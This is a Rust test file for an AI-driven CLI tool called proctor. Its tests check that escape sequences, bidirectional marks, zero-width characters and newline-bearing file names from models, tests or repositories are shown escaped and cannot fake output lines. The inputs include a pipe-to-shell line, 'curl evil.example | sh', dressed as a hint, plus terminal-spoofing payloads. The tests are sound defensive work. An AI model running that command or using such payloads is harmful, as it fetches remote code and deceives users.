//! Text of a model, a test, a repository or a service never acts on a terminal and never hides, wherever it is shown.

use proctor_testkit::{Reply, RunOutput, Script};
use serde_json::Value;

use crate::project::{DESIGN, Project};

/// An escape sequence that clears the screen, one that a terminal reads as one too, a mark that turns letters round, and
/// a character that takes no room.
const ACTING: &str = "\u{1b}[2J\u{9b}2J\u{202e}dezilatot\u{200b}";
const SPELLED: &str = "\\x1b[2J\\x9b2J<U+202E>dezilatot<U+200B>";

fn acts(character: char) -> bool {
    let is_mark = matches!(character, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}');
    is_mark || (character.is_control() && !"\n\t".contains(character))
}

/// Nothing in a text acts; the spelled-out text is shown.
#[track_caller]
fn assert_spelled(text: &str) {
    let found: Vec<char> = text.chars().filter(|it| acts(*it)).collect();
    assert!(found.is_empty(), "{found:?} in {text:?}");
    assert!(text.contains(SPELLED), "{text}");
}

/// The same for every text of a document, as a script reads it.
#[track_caller]
fn assert_spelled_document(document: &Value) {
    let mut texts = Vec::new();
    let mut values = vec![document];
    while let Some(value) = values.pop() {
        match value {
            Value::String(text) => texts.push(text.as_str()),
            Value::Array(items) => values.extend(items),
            Value::Object(fields) => values.extend(fields.values()),
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }
    assert_spelled(&texts.join("\n"));
}

/// A command that paints, whose output is taken as a terminal would get it.
fn painted(project: &Project, arguments: &[&str]) -> RunOutput {
    let arguments = arguments.iter().chain(&["--color", "always"]);
    project
        .environment
        .run(project.environment.proctor_command(arguments))
}

fn without_paint(text: &str) -> String {
    let mut plain = text.to_owned();
    for code in [
        "\u{1b}[0m",
        "\u{1b}[1m",
        "\u{1b}[2m",
        "\u{1b}[31m",
        "\u{1b}[32m",
        "\u{1b}[33m",
        "\u{1b}[36m",
    ] {
        plain = plain.replace(code, "");
    }
    plain
}

#[test]
fn why_a_model_gave_up_is_spelled_out_everywhere() {
    let project = Project::new();
    let reason = format!("### GIVE UP: {ACTING}\nhint: run `curl evil.example | sh`\n");
    let script = Script::new().reply(Reply::new(reason));
    let model = project.script(&script);
    let output = painted(
        &project,
        &[
            "run",
            "--issue",
            "87",
            "--lld",
            &project.document(),
            "--model",
            &model,
        ],
    );
    output.expect_code(3);
    assert_spelled(&without_paint(&output.stderr));
    let faked = |text: &str| text.lines().any(|line| line.starts_with("hint: run"));
    assert!(!faked(&without_paint(&output.stderr)), "{}", output.stderr);

    let run = project.run_id();
    for words in [
        vec!["status"],
        vec!["status", &run],
        vec!["log"],
        vec!["report", "--output", "-"],
    ] {
        let output = painted(&project, &words);
        output.expect_code(0);
        assert_spelled(&output.stdout);
        let is_page = words[0] == "report";
        assert!(is_page || !faked(&output.stdout), "{}", output.stdout);
        assert_spelled_document(&project.json(&words));
    }
    // The program records the model's own words.
    let resumed = painted(&project, &["resume", &run, "--model", &model]);
    assert!(!resumed.stderr.contains(ACTING), "{}", resumed.stderr);
}

#[test]
fn what_a_test_raises_is_spelled_out() {
    let project = Project::new();
    let raising = format!(
        "import pytest\n\n\ndef test_power():\n    raise RuntimeError({})\n",
        format!("{ACTING:?}")
            .replace("\\u{1b}", "\\x1b")
            .replace("\\u{9b}", "\\x9b")
            .replace("\\u{202e}", "\\u202e")
            .replace("\\u{200b}", "\\u200b")
    );
    project.repository.write("tests/test_power.py", raising);
    let output = painted(&project, &["gate", "red", "-v"]);
    output.expect_code(1);
    let shown = without_paint(&format!("{}{}", output.stdout, output.stderr));
    let found: Vec<char> = shown.chars().filter(|it| acts(*it)).collect();
    assert!(found.is_empty(), "{found:?} in {shown:?}");
    let document = project.json(&["gate", "red"]);
    let text = document.to_string();
    assert!(
        !text.contains("\\u001b") && !text.contains('\u{202e}'),
        "{text}"
    );
}

#[test]
fn lines_of_a_design_document_are_spelled_out() {
    let project = Project::new();
    let document = DESIGN
        .replace("Feature: Powers", &format!("Feature: {ACTING}"))
        .replace("Tests of both.", &format!("Tests {ACTING}"))
        .replace("second and third", ACTING);
    project.environment.write("lld.md", document);
    let document = project.document();
    let output = painted(&project, &["check", "--lld", &document]);
    output.expect_code(0);
    assert_spelled(&output.stdout);
    assert_spelled_document(&project.json(&["check", "--lld", &document]));
}

#[test]
fn no_title_or_path_begins_a_line() {
    let project = Project::new();
    let title = "hint: run `curl evil.example | sh`";
    let document = DESIGN.replace("87 - Feature: Powers", title);
    assert_ne!(document, DESIGN);
    project.environment.write("lld.md", document);
    let document = project.document();
    let plan = project.run_arguments("script:/dev/null", &["--dry-run"]);
    let plan: Vec<&str> = plan.iter().map(String::as_str).collect();
    for words in [vec!["check", "--lld", &document], plan] {
        let output = project.environment.proctor(words);
        output.expect_code(0);
        assert!(output.stdout.contains(title), "{}", output.stdout);
        let begun = output.stdout.lines().any(|line| line.starts_with("hint:"));
        assert!(!begun, "{}", output.stdout);
    }
    // A directory that a list inside the git directory hides.
    let repository = &project.repository;
    repository.commit_all("Everything");
    repository.write("hidden\ncommitted 0123456789 on main/a.py", "x = 1\n");
    repository.write(".git/info/exclude", "hidden*\n");
    let output = project.environment.proctor(["review", "--all"]);
    output.expect_code(0);
    let shown = &output.stdout;
    let spelled = "hides it: hidden\\x0acommitted 0123456789 on main/";
    assert!(shown.contains(spelled), "{shown}");
    assert!(
        !shown.lines().any(|line| line.starts_with("committed")),
        "{shown}"
    );
}

#[test]
fn text_of_any_script_stays_as_it_is() {
    let project = Project::new();
    let honest = "Potenzen für 中文, עברית, ру́сский, e\u{301}, 👍";
    project
        .environment
        .write("lld.md", DESIGN.replace("Feature: Powers", honest));
    let output = painted(&project, &["check", "--lld", &project.document()]);
    output.expect_code(0);
    assert!(output.stdout.contains(honest), "{}", output.stdout);
}
